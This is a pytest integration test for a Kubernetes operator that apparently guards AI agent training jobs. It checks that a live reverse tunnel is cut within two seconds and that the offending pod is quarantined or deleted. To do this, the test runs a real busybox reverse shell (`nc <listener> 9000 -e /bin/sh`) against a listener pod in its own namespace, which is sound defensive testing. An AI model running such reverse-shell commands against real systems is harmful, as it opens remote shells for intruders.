"""Issue 13 on the real node (kubelet, containerd, kube-router, the real sensor image): a pod holds a real reverse
tunnel (busybox `nc -e /bin/sh` to a listener pod of the test's namespace) and keeps it established; the policy
forbids it. Within 2 s of the first violating sample the tunnel is cut (no more bytes get through), new connections
fail both ways, the neighbour is untouched, the evidence names the process and the remote. The same with Delete:
the Job starts no replacement.

It needs the sensor half of issue 13 (the Secret-mounted key, the signed `/v2/samples` stream and `POST /v2/cut`
with SOCK_DESTROY) in the sensor image: until `trainguard.sensor` serves `sensorproto.CUT_PATH` it is skipped,
with that reason.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import json
import secrets
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.integration.realnode.node import SENSOR, TOOLBOX, RealNode, toolbox_pod
from tests.polling import wait_for

ROOT = Path(__file__).resolve().parents[3]
SENSOR_SOURCES = ROOT / "operator" / "trainguard" / "sensor"
LISTENER_PORT = 9000


def _sensor_cuts() -> bool:
    return any("CUT_PATH" in p.read_text() for p in SENSOR_SOURCES.glob("*.py"))


pytestmark = pytest.mark.skipif(
    not _sensor_cuts(),
    reason="the sensor side of issue 13 (signed /v2 stream, POST /v2/cut with SOCK_DESTROY) is not in"
    " trainguard.sensor on this branch; this test runs once it is merged",
)


@contextlib.contextmanager
def operator_on_node(node: RealNode, namespace: str, tmp: Path, *extra: str) -> Iterator[subprocess.Popen[bytes]]:
    """`trainguard run` in the node's network namespace (the node reaches every pod, as the operator's namespace
    does through the sensor NetworkPolicy in a cluster). The CRD is installed by `_setup`."""
    master = tmp / "master.key"
    master.write_text(secrets.token_hex(32))
    log = (tmp / "operator.log").open("wb")
    process = subprocess.Popen(
        [
            "nsenter",
            f"--target={node.pid}",
            "--net",
            "--mount",
            sys.executable,
            "-m",
            "trainguard",
            "run",
            f"--kubeconfig={node.kubeconfig}",
            f"--namespace={namespace}",
            "--metrics-port=0",
            "--log-format=json",
            f"--sensor-image={SENSOR}",
            f"--sensor-master-key-file={master}",
            "--dns-ip=10.96.0.10",
            *extra,
        ],
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    try:
        yield process
    finally:
        with contextlib.suppress(AssertionError):
            node.kubectl("-n", namespace, "delete", "agenttrainingjobs", "--all", "--wait=true", "--timeout=30s")
        process.terminate()
        try:
            process.wait(20)
        except subprocess.TimeoutExpired:
            process.kill()


def _job(listener: str, action: str) -> dict[str, Any]:
    # Worker 0 opens the reverse shell; worker 1 (the neighbour) only trains.
    command = (
        'if [ "$JOB_COMPLETION_INDEX" = 0 ]; then sleep 3; '
        f"while true; do nc {listener} {LISTENER_PORT} -e /bin/sh; sleep 1; done; "
        "else sleep 100000; fi"
    )
    return {
        "apiVersion": "trainguard.io/v1alpha1",
        "kind": "AgentTrainingJob",
        "metadata": {"name": "agent"},
        "spec": {
            "replicas": 2,
            "template": {
                "spec": {
                    "containers": [
                        {
                            "name": "trainer",
                            "image": TOOLBOX,
                            "imagePullPolicy": "Never",
                            "command": ["sh", "-c", command],
                        }
                    ]
                }
            },
            # The listener's address is declared egress, so the NetworkPolicies let the tunnel open: what gives it away
            # is the shell whose standard streams are that connection (process.reverse-shell), the ROME shape.
            "policy": {
                "network": {"egress": [{"cidr": f"{listener}/32", "ports": [{"port": LISTENER_PORT}]}]},
                "enforcement": {"action": action, "debounce": {"samples": 1}},
            },
        },
    }


def _listener_lines(node: RealNode, ns: str) -> int:
    return len(node.kubectl("-n", ns, "logs", "listener", check=False).stdout.splitlines())


def _pods(node: RealNode, ns: str) -> list[dict[str, Any]]:
    out = json.loads(node.kubectl("-n", ns, "get", "pods", "-l", "trainguard.io/job=agent", "-o", "json").stdout)
    return list(out["items"])


def _worker(node: RealNode, ns: str, index: str) -> dict[str, Any] | None:
    for p in _pods(node, ns):
        if p["metadata"]["annotations"].get("batch.kubernetes.io/job-completion-index") == index:
            return p
    return None


def _setup(node: RealNode, ns: str, action: str) -> str:
    node.kubectl("apply", "--server-side", "-f", str(ROOT / "crds"))
    wait_for(
        lambda: node.kubectl("get", "crd", "agenttrainingjobs.trainguard.io", check=False).returncode == 0
        and node.kubectl("api-resources", "--api-group=trainguard.io", check=False).stdout.count("AgentTrainingJob"),
        30,
        "the AgentTrainingJob CRD is not served",
    )
    # The listener drives the shell: a command every 0.2 s, each answer is one line in its log.
    node.apply(
        ns,
        toolbox_pod("listener", f"while true; do echo 'echo alive'; sleep 0.2; done | nc -ll -p {LISTENER_PORT}"),
    )
    node.wait_ready(ns, "listener")
    listener = node.pod_ip(ns, "listener")
    node.apply(ns, _job(listener, action))
    return listener


def test_a_real_reverse_tunnel_is_cut_within_2_s(real_node: RealNode, node_namespace: str, tmp_path: Path) -> None:
    ns = node_namespace
    listener = _setup(real_node, ns, "Quarantine")
    with operator_on_node(real_node, ns, tmp_path):
        wait_for(lambda: _listener_lines(real_node, ns) >= 10, 90, "the reverse shell never carried a byte")

        def cut() -> dict[str, Any] | None:
            p = _worker(real_node, ns, "0")
            ok = p is not None and p["metadata"]["annotations"].get("trainguard.io/cut", "").startswith("confirmed")
            return p if ok else None

        pod = wait_for(cut, 30, "the tunnel's pod was not cut")
        seen_cut = time.time()
        evidence = json.loads(pod["metadata"]["annotations"]["trainguard.io/evidence"])
        first = dt.datetime.fromisoformat(evidence["firstSeen"].replace("Z", "+00:00")).timestamp()
        # seen_cut is when this poll saw the confirmation: an upper bound of when the cut happened.
        assert seen_cut - first <= 2.0, f"cut {seen_cut - first:.2f} s after the first violating sample"
        assert any(tool in json.dumps(evidence["evidence"]) for tool in ("nc", "sh")), evidence
        assert any(listener in r for r in evidence["remotes"]), evidence
        # No more bytes through the tunnel.
        time.sleep(1.0)
        stopped = _listener_lines(real_node, ns)
        time.sleep(2.0)
        # (The listener's log can only shrink: its nc may end with the reset connection and the kubelet restart it.)
        assert _listener_lines(real_node, ns) <= stopped, "bytes still get through the cut tunnel"
        # New connections fail both ways.
        name = pod["metadata"]["name"]
        ip = pod["status"]["podIP"]
        out = real_node.kubectl(
            "-n", ns, "exec", name, "-c", "trainer", "--", "nc", "-w", "1", listener, str(LISTENER_PORT), check=False
        )
        assert out.returncode != 0, "the quarantined pod opened a new connection"
        assert not real_node.connects(ns, "listener", ip, 8080), "a new connection reached the quarantined pod"
        neighbour = _worker(real_node, ns, "1")
        assert neighbour is not None and "trainguard.io/quarantined" not in neighbour["metadata"].get("labels", {})
        assert neighbour["status"]["phase"] == "Running"


def test_delete_leaves_no_replacement(real_node: RealNode, node_namespace: str, tmp_path: Path) -> None:
    ns = node_namespace
    _setup(real_node, ns, "Delete")
    with operator_on_node(real_node, ns, tmp_path):
        wait_for(lambda: _listener_lines(real_node, ns) >= 5, 90, "the reverse shell never carried a byte")
        first = _worker(real_node, ns, "0")
        assert first is not None
        wait_for(
            lambda: all(p["metadata"]["name"] != first["metadata"]["name"] for p in _pods(real_node, ns)),
            30,
            "the pod was not deleted",
        )
        job = wait_for(
            lambda: (j := real_node.get(ns, "job", "agent"))["status"].get("failedIndexes") and j,
            30,
            "the index was not failed",
        )
        assert job["status"]["failedIndexes"] == "0"
        time.sleep(3)
        assert _worker(real_node, ns, "0") is None, "the Job started a replacement"
